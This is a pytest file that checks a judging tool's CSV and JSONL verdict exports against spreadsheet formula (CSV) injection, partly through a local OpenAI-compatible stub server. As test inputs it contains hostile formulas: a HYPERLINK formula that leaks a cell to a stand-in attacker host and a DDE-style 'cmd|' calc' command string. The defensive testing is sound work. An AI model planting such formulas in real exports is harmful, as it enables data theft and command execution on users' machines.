"""Verdict exports a spreadsheet user can trust: one engine table for the Runs page and the CLI, no cell that a
spreadsheet would run as a formula (CSV injection), numbers kept numeric; a round trip through an
OpenAI-compatible stub whose every reply begins with ``=HYPERLINK(``."""

from __future__ import annotations

import csv
import io
import json
import math
import os
import re
import subprocess
import sys
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
import streamlit
from streamlit.testing.v1 import AppTest

from judge_engine import export
from judge_engine.__main__ import main
from judge_engine.llm import LLMConfig, make_llm
from judge_engine.llm.fake import FakeBackend
from judge_engine.records import Aspect, Dataset, Sample, Verdict
from judge_engine.runs import RunSpec, create_run, execute_run
from judge_engine.spreadsheet import is_formula_like, safe_cell, to_csv
from judge_engine.store import Store

REPO = Path(__file__).resolve().parents[1]
APP = REPO / "app.py"
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
"""First characters a spreadsheet evaluates (the test's own list, from the issue)."""


def evaluated_cells(text: str) -> list[str]:
    """Every cell of a CSV text that a spreadsheet would run as a formula."""
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row
            if cell[:1] in DANGEROUS]


# --------------------------------------------------------------------------- the cell rule


@pytest.mark.parametrize("first", DANGEROUS + ("\uff1d", "\uff20"))
def test_text_beginning_with_a_formula_character_gets_a_quote(first):
    text = f"{first}HYPERLINK(\"http://attacker.test/?\"&A1,\"click\")"
    assert safe_cell(text) == "'" + text
    assert safe_cell("   " + text) == "'   " + text  # leading spaces do not hide it
    assert is_formula_like(text)


def test_numbers_stay_numbers_and_harmless_text_is_untouched():
    assert safe_cell(-2.5) == -2.5 and safe_cell(3) == 3
    assert safe_cell(float("nan")) == "" and safe_cell(None) == ""
    assert safe_cell(True) == "true"
    assert safe_cell("-3") == "-3" and safe_cell("+0.5") == "+0.5"  # plain numbers are not formulas
    assert safe_cell("-3+A1") == "'-3+A1"
    assert safe_cell("a = b") == "a = b" and safe_cell("") == ""
    text = to_csv(["id", "score", "reply"], [["1", -1.5, "=1+1"], ["2", float("nan"), "fine"]])
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows == [["id", "score", "reply"], ["1", "-1.5", "'=1+1"], ["2", "", "fine"]]


# --------------------------------------------------------------------------- the verdict table

def hostile_dataset(name: str = "hostile") -> Dataset:
    """Inputs and outputs beginning with every dangerous character, three times each (each row its own group)."""
    samples = []
    for i in range(18):
        c = DANGEROUS[i % len(DANGEROUS)]
        samples.append(Sample(id=f"s{i}", input=f"{c}cmd|' /C calc'!A{i}", output=f"{c}SUM(A1:A9) summary {i}",
                              group_id=f"s{i}", human={"quality": float(1 + i % 5)}))
    return Dataset(name=name, task="summaries", aspects=(Aspect("quality", 1, 5, "How good it is."),),
                   samples=tuple(samples))


def hostile_reply(messages, params):
    """A reply beginning with the judged item's dangerous character; every fourth item gets no score."""
    i = int(re.search(r"summary (\d+)", messages[0]["content"]).group(1))
    score = "" if i % 4 == 0 else f" [[{1 + i % 5}]]"
    return f"{DANGEROUS[i % len(DANGEROUS)]}HYPERLINK(\"http://attacker.test/?\"&A1,\"click\"){score}"


@pytest.fixture
def hostile_run(db):
    store = Store(db)
    store.save_dataset(hostile_dataset())
    # test = every item train does not use: 16 items, each dangerous character at least twice
    run_id = create_run(store, RunSpec(method="direct", dataset="hostile", aspect="quality", train_size=2,
                                       test_size=None))
    execute_run(store, run_id, llm=make_llm(LLMConfig(), store=store, backend=FakeBackend(hostile_reply)))
    return store, run_id


def check_neutralised(text: str, store: Store, run_id: int) -> list[list[str]]:
    """Assert no cell evaluates and every text is kept behind its quote; returns the rows."""
    assert evaluated_cells(text) == []
    rows = list(csv.reader(io.StringIO(text, newline="")))
    header, body = rows[0], rows[1:]
    assert header[:9] == list(export.VERDICT_COLUMNS)
    dataset = store.load_dataset(store.get_run(run_id)["dataset"]).by_id()
    verdicts = {v.sample_id: v for v in store.load_verdicts(run_id)}
    assert len(body) == len(verdicts) > 0
    col = {name: i for i, name in enumerate(header)}
    for row in body:
        sample, verdict = dataset[row[col["sample_id"]]], verdicts[row[col["sample_id"]]]
        assert row[col["input"]] == "'" + sample.input  # the import's text, shown back: neutralised
        assert row[col["output"]] == "'" + sample.output
        assert row[col["raw_reply"]] == "'" + verdict.raw
        assert float(row[col["human_score"]]) == pytest.approx(sample.human["quality"])
        if verdict.missing:
            assert row[col["judge_score"]] == "" and row[col["missing"]] == "true"
            # the reason the method recorded on the verdict travels to the export unchanged
            assert row[col["missing_reason"]] == verdict.metadata["missing_reason"]
            assert row[col["missing_reason"]].startswith("no score on the 1-5 scale")
        else:
            assert float(row[col["judge_score"]]) == pytest.approx(verdict.score)
            assert row[col["missing"]] == "false" and row[col["missing_reason"]] == ""
    return rows


def test_engine_table_and_cli_write_the_same_neutralised_csv(hostile_run, db, tmp_path, capsys):
    store, run_id = hostile_run
    verdicts = store.load_verdicts(run_id)
    assert {v.raw[:1] for v in verdicts} == set(DANGEROUS), "every dangerous first character is exercised"
    assert any(v.missing for v in verdicts) and not all(v.missing for v in verdicts)
    table = export.verdict_table(store, run_id)
    text = export.verdicts_text(table, "csv")
    check_neutralised(text, store, run_id)

    out = tmp_path / "verdicts.csv"
    assert main(["verdicts", str(run_id), "--db", str(db), "--out", str(out)]) == 0
    assert out.read_bytes() == text.encode("utf-8")
    assert main(["verdicts", str(run_id), "--db", str(db)]) == 0  # standard output
    assert capsys.readouterr().out == text


def test_jsonl_keeps_texts_as_they_are_and_numbers_as_numbers(hostile_run, db, tmp_path):
    store, run_id = hostile_run
    out = tmp_path / "verdicts.jsonl"
    assert main(["verdicts", str(run_id), "--db", str(db), "--format", "jsonl", "--out", str(out)]) == 0
    records = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
    verdicts = {v.sample_id: v for v in store.load_verdicts(run_id)}
    assert len(records) == len(verdicts)
    for r in records:
        v = verdicts[r["sample_id"]]
        assert r["raw_reply"] == v.raw  # JSON is never evaluated: the reply is kept verbatim
        assert (r["judge_score"] is None) == v.missing == r["missing"]
        assert isinstance(r["human_score"], float)


def test_cli_names_a_bad_run_or_format_without_a_traceback(hostile_run, db, tmp_path, capsys):
    assert main(["verdicts", "999", "--db", str(db)]) == 2
    assert "no run 999" in capsys.readouterr().err
    assert main(["verdicts", str(hostile_run[1]), "--db", str(db), "--out", str(tmp_path / "no" / "x.csv")]) == 2
    err = capsys.readouterr().err
    assert err.startswith("error: cannot write") and "Traceback" not in err
    assert main(["export", str(hostile_run[1]), "--db", str(db), "--out", str(tmp_path / "no" / "judge.json")]) == 2
    err = capsys.readouterr().err
    assert err.startswith("error: cannot write") and "Traceback" not in err
    with pytest.raises(SystemExit):
        main(["verdicts", "1", "--format", "xlsx"])


def test_missing_reasons_and_per_criterion_scores():
    verdicts = [
        Verdict("a", "q", 4.0, criteria={"clarity": 3.0, "facts": float("nan")}, explanation="@mention", raw="ok"),
        Verdict("b", "q", float("nan"), criteria={"clarity": 2.0}, raw="",
                metadata={"missing_reason": "the reply was cut at the token limit"}),
        Verdict("c", "q", float("nan"), raw="-", metadata={"source": "sampling"}),
        Verdict("d", "q", float("nan"), raw="no number here"),
        Verdict("e", "q", float("nan"), raw="   "),
    ]
    table = export.build_verdict_table(None, "q", verdicts)
    assert table.columns[-2:] == ("criterion: clarity", "criterion: facts")
    reasons = [r["missing_reason"] for r in table.rows]
    assert reasons == ["", "the reply was cut at the token limit", "none of the sampled replies gave a score",
                       "no score in the reply", "empty reply"]
    assert table.rows[0]["criterion: clarity"] == pytest.approx(3.0) and table.rows[0]["criterion: facts"] is None
    assert table.rows[2]["criterion: facts"] is None and table.rows[0]["input"] is None  # no dataset: no texts
    rows = list(csv.reader(io.StringIO(export.verdicts_text(table, "csv"), newline="")))
    assert rows[1][-2:] == ["3.0", ""] and rows[1][8] == "'@mention" and rows[3][7] == "'-"
    with pytest.raises(ValueError, match="unknown format"):
        export.verdicts_text(table, "xlsx")


def test_runs_page_download_is_the_engine_csv(hostile_run, monkeypatch):
    store, run_id = hostile_run
    downloads = []
    original = streamlit.download_button

    def record(label, data, *args, **kwargs):
        downloads.append((label, data))
        return original(label, data, *args, **kwargs)

    monkeypatch.setattr(streamlit, "download_button", record)
    at = AppTest.from_file(str(APP), default_timeout=60).run()
    at.switch_page("pages/runs.py").run()
    assert not at.exception, [e.value for e in at.exception]
    data = next(d for label, d in downloads if label == "Download verdicts (CSV)")
    text = data.decode("utf-8")
    assert text == export.verdicts_text(export.verdict_table(store, run_id), "csv")
    check_neutralised(text, store, run_id)


# --------------------------------------------------------------------------- round trip through a real HTTP server

HYPERLINK = '=HYPERLINK("http://attacker.test/?leak="&A1,"Click for details")'


class _FormulaServer(BaseHTTPRequestHandler):
    """An OpenAI-compatible chat server whose every reply begins with ``=HYPERLINK(``."""

    calls = 0

    def log_message(self, *args):
        pass

    def _send(self, body):
        data = json.dumps(body).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def do_GET(self):
        self._send({"object": "list", "data": [{"id": "stub", "object": "model", "owned_by": "test"}]})

    def do_POST(self):
        body = json.loads(self.rfile.read(int(self.headers.get("Content-Length", 0))) or b"{}")
        type(self).calls += 1
        prompt = body["messages"][-1]["content"]
        # a score for most items, none for every third: both kinds of row reach the export
        score = "" if sum(map(ord, prompt)) % 3 == 0 else f" Score: [[{1 + len(prompt) % 5}]]"
        content = HYPERLINK + score
        self._send({"id": "x", "object": "chat.completion", "created": 0, "model": "stub",
                    "choices": [{"index": i, "finish_reason": "stop",
                                 "message": {"role": "assistant", "content": content}}
                                for i in range(body.get("n", 1))],
                    "usage": {"prompt_tokens": 10, "completion_tokens": 12, "total_tokens": 22}})


@pytest.fixture
def formula_server():
    httpd = ThreadingHTTPServer(("127.0.0.1", 0), _FormulaServer)
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{httpd.server_address[1]}/v1"
    httpd.shutdown()
    httpd.server_close()


def test_round_trip_through_an_openai_stub_ends_in_a_csv_with_no_formula(formula_server, db, tmp_path,
                                                                          monkeypatch):
    monkeypatch.setenv("OPENAI_API_KEY", "sk-local-not-checked")
    store = Store(db)
    store.save_dataset(hostile_dataset())
    llm = LLMConfig(backend="openai", base_url=formula_server, model="stub", concurrency=2, max_retries=0)
    run_id = create_run(store, RunSpec(method="direct", dataset="hostile", aspect="quality", train_size=2,
                                       test_size=None, llm=llm))
    summary = execute_run(store, run_id)
    assert summary.n == 16 and _FormulaServer.calls >= 16
    verdicts = store.load_verdicts(run_id)
    assert all(v.raw.startswith("=HYPERLINK(") for v in verdicts)
    assert 0 < summary.parse_failures < 16  # missing rows and scored rows both exported

    text = export.verdicts_text(export.verdict_table(store, run_id), "csv")
    rows = check_neutralised(text, store, run_id)
    assert all(row[7].startswith("'=HYPERLINK(") for row in rows[1:])

    out = tmp_path / "cli.csv"
    env = {**os.environ, "PYTHONPATH": str(REPO)}
    proc = subprocess.run([sys.executable, "-m", "judge_engine", "verdicts", str(run_id), "--db", str(db),
                           "--out", str(out)], check=False, cwd=REPO, env=env, capture_output=True, text=True, timeout=120)
    assert proc.returncode == 0, proc.stderr
    assert out.read_bytes() == text.encode("utf-8")
    with open(out, newline="", encoding="utf-8") as f:
        cells = [cell for row in csv.reader(f) for cell in row]
    assert cells and not [c for c in cells if c[:1] in DANGEROUS]
    assert not any(isinstance(x, float) and math.isnan(x) for x in cells)


def test_tables_have_no_unprotected_csv_download():
    """st.dataframe's own CSV download writes cells as they are; the app turns it off."""
    import tomllib

    config = tomllib.loads((REPO / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert config["client"]["disableDataExport"] is True
